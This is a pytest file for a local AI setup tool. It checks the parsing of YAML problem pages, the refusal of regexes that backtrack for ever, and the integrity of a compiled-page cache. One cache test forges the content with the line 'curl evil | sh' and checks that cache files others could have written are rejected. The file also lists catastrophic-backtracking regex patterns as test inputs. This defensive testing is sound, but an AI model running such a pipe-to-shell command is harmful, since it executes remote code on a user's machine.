"""A page says what is wrong with it; the compiled pages are always those of the files."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from localai_setup.diagnosis.explain import explain
from localai_setup.diagnosis.surroundings import Surroundings
from localai_setup.machine.keeping import compiled_pages, folders
from localai_setup.machine.keeping.problem_files import PAGES as FOLDER
from localai_setup.problems.adding import with_own_pages
from localai_setup.problems.compiled import dumped, loaded
from localai_setup.problems.reading import read
from localai_setup.problems.wording import weights
from localai_setup.recipes.strict_yaml import RecipeError

from . import hostile
from .known import PROBLEMS

PAGE = """\
schema: localai.problem/1
title: The river flows uphill.
healthy: The river flows downhill.
seen: Boats drift away from the sea.
why: Somebody turned the map around.
fixes:
- text: Turn the map.
  commands:
  - map turn
  proof: map show
signs:
  sure:
  - uphill flow in sector
  likely:
  - any: ['boat \\S+ drifts']
    certainty: 0.85
    unless: [calm]
"""
EXTENSION = """\
schema: localai.problem-extension/1
fixes:
- text: Ask the help desk for a resolver.
signs:
  likely:
  - corpdns went dark
complaints: [The quaxon box forgets every name after lunch.]
"""


@pytest.mark.parametrize("schema", ["[]", "{}", "3", "localai.problem/9"])
def test_a_page_of_no_known_schema_is_refused(schema: str) -> None:
    page = PAGE.replace("localai.problem/1", schema)
    assert "must be one of" in with_own_pages({}, [("/x/river-uphill.yaml", page)]).left_out[0]


ENDLESS = [
    r"(a+)+x",
    r"(\w+\s?)*:",
    "(a|aa)+b",
    "(.*)*boat",
    "(x+x+)+y",
    "((a?){30}){30}b",
    "(aa?)+b",
    r"a(?=(b*)*c)",
]
ENDING = [r"(?:\.\w+)*x", "(?:ab|cd)*", r"(?:-\w+ )*x", "word.*x", "(?:NVIDIA |NV-)*x", "(?:a{2})*", r"(?:(?!end).){0,80}x", "(a?){3}"]  # fmt: skip


@pytest.mark.parametrize("pattern", ENDLESS + ENDING)
def test_an_expression_that_can_take_for_ever_is_refused(pattern: str) -> None:
    page = PAGE.replace("uphill flow in sector", f"'word {pattern}'")
    left_out = with_own_pages({}, [("/x/river-uphill.yaml", page)]).left_out
    assert ["for ever" in one for one in left_out] == [True] * (pattern in ENDLESS)


@pytest.mark.parametrize("pattern", ENDING)
def test_what_is_not_refused_is_over_soon(pattern: str) -> None:
    began = time.process_time()
    for text in hostile.texts(pattern):
        re.search(pattern, text, re.IGNORECASE)
    assert time.process_time() - began < 2


def test_a_page_becomes_what_it_says() -> None:
    known = with_own_pages({}, [("/x/river-uphill.yaml", PAGE)])
    one = known.by_id["river-uphill"]
    assert (one.healthy, one.problem.status) == ("The river flows downhill.", "fail")
    assert one.problem.fixes[0].commands == ("map turn",)
    assert [(s.pattern, s.needs, s.certainty, s.unless) for s in one.signatures] == [
        ("uphill flow in sector", ("flow", "sector", "uphill"), 0.97, ()),
        (r"boat \S+ drifts", ("boat", "drifts"), 0.85, ("calm",)),
    ]


@pytest.mark.parametrize(
    ("old", "new", "line", "words"),
    [
        ("seen:", "sean:", 4, "did you mean `seen`?"),
        ("title: The river flows uphill.\n", "", 1, "lacks the field `title`"),
        ("localai.problem/1", "localai.problem/9", 1, "must be one of"),
        ("- uphill flow", "- uphill (flow", 13, "not a regular expression"),
        ("- uphill flow in sector", r"- \S+", 13, "no whole word"),
        ("certainty: 0.85", "certainty: 0.97", 16, "from 0.8 to below 0.95"),
        ("[calm]", "['*']", 17, "not a regular expression"),
        ("  proof: map show", "  step: turn-map", 10, "no step called 'turn-map'"),
        ("why: ", "status: bad\nwhy: ", 5, "must be one of fail, warn, info"),
        ("    unless: [calm]", "    lines: 500", 17, "`lines` is from 1"),
        ("- uphill flow in sector", "- 5", 13, "must have fields below it"),
    ],
)
def test_a_mistake_is_named_with_its_line(old: str, new: str, line: int, words: str) -> None:
    assert old in PAGE
    with pytest.raises(RecipeError) as caught:
        read("river-uphill", PAGE.replace(old, new))
    assert caught.value.line == line
    assert words in caught.value.what


def test_an_own_page_extends_ours_and_never_replaces_one() -> None:
    own = [
        ("/c/net-dns-failing.yaml", EXTENSION),
        ("/c/net-dns-fails.yaml", EXTENSION),
        ("/c/os-glibc-too-old.yaml", PAGE),
        ("/c/river-uphill.yaml", PAGE),
        ("/c/broken.yaml", "a: ]"),
        ("/c/Not An Id.yaml", PAGE),
    ]
    known = with_own_pages(PROBLEMS, own)
    ours, theirs = PROBLEMS["net-dns-failing"], known.by_id["net-dns-failing"]
    assert theirs.problem.fixes[1:] == ours.problem.fixes
    assert theirs.problem.fixes[0].text == "Ask the help desk for a resolver."
    assert theirs.signatures[-1].needs == ("corpdns", "dark", "went")
    stated, before = weights(theirs.wording), weights(ours.wording)
    assert [stated[one] - before.get(one, 0) for one in ("quaxon", "name")] == [2, 2]
    assert known.by_id["os-glibc-too-old"] == PROBLEMS["os-glibc-too-old"]
    assert set(known.by_id) == {*PROBLEMS, "river-uphill"}
    reported = "\n".join(known.left_out)
    assert len(known.left_out) == 4
    assert "did you mean `net-dns-failing`?" in reported
    assert "os-glibc-too-old is known already" in reported
    assert "/c/broken.yaml, line 1" in reported


def test_a_certainty_without_a_value_is_as_none() -> None:
    texts = [PAGE.replace("    certainty: 0.85\n", one) for one in ("    certainty:\n", "")]
    first, second = (with_own_pages({}, [("/x/a.yaml", text)]).by_id["a"] for text in texts)
    assert first == second


def test_own_pages_are_read_from_the_config_folder(localai) -> None:
    folder = localai.home / "local ai ü" / "config" / "problems"
    folder.mkdir(parents=True)
    (folder / "river-uphill.yaml").write_text(PAGE)
    (folder / "bad.yaml").write_text("title: [")
    done = localai("explain", "--json", "-", stdin="12:00 uphill flow in sector 9\n")
    assert [one["id"] for one in json.loads(done.stdout)["findings"]] == ["river-uphill"]
    assert "bad.yaml" in done.stderr
    assert "left out" in done.stderr


def test_plain_data_and_back_is_the_same() -> None:
    assert loaded(dumped(PROBLEMS.values())) == PROBLEMS


@pytest.fixture
def checkout(tmp_path, monkeypatch) -> Path:
    """A checkout with two pages, and a cache folder of its own."""
    package = tmp_path / "localai_setup"
    for layer, name in (("os", "os-tmp-noexec"), ("disk", "disk-tmp-too-small")):
        (package / "problems" / layer).mkdir(parents=True)
        shutil.copy(FOLDER / layer / f"{name}.yaml", package / "problems" / layer)
    monkeypatch.setattr(folders, "folder", lambda name: tmp_path / "home" / name)
    return package / "problems"


def compiled_file(checkout: Path) -> Path:
    return checkout / "__pycache__" / "problems.json"


def test_what_is_kept_is_used_until_a_page_changes(checkout, monkeypatch) -> None:
    first = compiled_pages.problems(checkout)
    assert first == {name: PROBLEMS[name] for name in ("disk-tmp-too-small", "os-tmp-noexec")}
    compiled = []
    row = compiled_pages._row
    monkeypatch.setattr(
        compiled_pages, "_row", lambda path: compiled.append(path.stem) or row(path)
    )
    assert compiled_pages.problems(checkout) == first
    assert not compiled
    page = checkout / "os" / "os-tmp-noexec.yaml"
    page.write_text(page.read_text(encoding="utf-8").replace("title: ", "title: Once more, "))
    assert compiled_pages.problems(checkout)["os-tmp-noexec"].problem.title.startswith("Once more")
    assert compiled == ["os-tmp-noexec"]
    page.unlink()
    assert set(compiled_pages.problems(checkout)) == {"disk-tmp-too-small"}
    (checkout.parent / "problems" / "words.py").write_text("")
    compiled_pages.problems(checkout)
    assert compiled == ["os-tmp-noexec", "disk-tmp-too-small"]


@pytest.mark.parametrize(
    "spoil",
    [
        lambda file: file.write_bytes(b""),
        lambda file: file.write_bytes(b"\xff\x00 no"),
        lambda file: file.write_bytes(file.read_bytes()[:-500]),
        lambda file: file.write_bytes(file.read_bytes().replace(b"sudo", b"evil", 1)),
        lambda file: (file.unlink(), file.mkdir()),
    ],
    ids=["empty", "not text", "cut off", "changed", "a folder"],
)
def test_what_is_damaged_is_made_again(checkout, spoil) -> None:
    first = compiled_pages.problems(checkout)
    spoil(compiled_file(checkout))
    assert compiled_pages.problems(checkout) == first
    assert compiled_pages.problems(checkout) == first


@pytest.mark.skipif(sys.platform == "win32", reason="modes, links and pipes of POSIX")
@pytest.mark.parametrize(
    "kind", ["ours", "of the group", "of others", "another's", "a link", "a pipe"]
)
def test_what_others_could_have_written_is_not_trusted(
    checkout, tmp_path, monkeypatch, kind
) -> None:
    first = compiled_pages.problems(checkout)
    file = compiled_file(checkout)
    content = file.read_bytes().partition(b"\n")[2]
    assert b"sudo mkdir" in content
    forged = content.replace(b"sudo mkdir", b"curl evil | sh")
    forged = compiled_pages._digest(forged) + b"\n" + forged
    file.unlink()
    modes = {"ours": 0o644, "of the group": 0o620, "of others": 0o602, "another's": 0o644}
    if kind in modes:
        file.write_bytes(forged)
        file.chmod(modes[kind])
        uid = os.getuid() + (kind == "another's")
        monkeypatch.setattr(compiled_pages.os, "getuid", lambda: uid)
    elif kind == "a link":
        (tmp_path / "forged").write_bytes(forged)
        file.symlink_to(tmp_path / "forged")
    else:
        os.mkfifo(file)
    assert (compiled_pages.problems(checkout) == first) == (kind != "ours")


def test_a_checkout_that_cannot_be_written_to_uses_the_cache_folder(checkout, tmp_path) -> None:
    compiled_file(checkout).parent.write_text("a file where the folder would be")
    first = compiled_pages.problems(checkout)
    [kept] = (tmp_path / "home" / "cache").iterdir()
    made = kept.stat().st_mtime_ns
    assert compiled_pages.problems(checkout) == first
    assert kept.stat().st_mtime_ns == made


def test_many_at_once_all_get_all_problems(tmp_path) -> None:
    """Three processes start on a checkout of one layer's pages, where nothing is compiled yet."""
    shutil.copytree(
        FOLDER.parent, tmp_path / "localai_setup", ignore=shutil.ignore_patterns("__pycache__")
    )
    copied = tmp_path / "localai_setup" / "problems"
    for layer in filter(Path.is_dir, copied.iterdir()):
        if layer.name != "driver":
            shutil.rmtree(layer)
    pages = len(list((FOLDER / "driver").glob("*.yaml")))
    assert pages > 10
    count = (
        "from localai_setup.machine.keeping.problem_files import shipped_problems as all_of_them\n"
        "print(len(all_of_them()))"
    )
    environment = {**os.environ, "PYTHONPATH": str(tmp_path), "LOCALAI_HOME": str(tmp_path / "h")}
    started = [
        subprocess.Popen([sys.executable, "-c", count], env=environment, stdout=-1, cwd=tmp_path)
        for _ in range(3)
    ]
    assert {one.communicate()[0].decode().strip() for one in started} == {str(pages)}
    assert not list((copied / "__pycache__").glob(".*"))


GUIDE = (FOLDER.parent.parent / "docs" / "guides" / "own-problems.md").read_text(encoding="utf-8")
GUIDE_PAGES = re.findall(r"```yaml\n# (\S+)\n(.*?)```", GUIDE, re.DOTALL)


def test_the_pages_of_the_guide_do_what_it_says() -> None:
    known = with_own_pages(PROBLEMS, GUIDE_PAGES)
    assert not known.left_out
    page = read("vpn-blocks-models", GUIDE_PAGES[0][1])
    for examples, expected in ((page.fires, True), (page.quiet, False)):
        for example in examples:
            found = explain(example.text, Surroundings(), known).found
            assert ("vpn-blocks-models" in [one.id for one in found]) is expected
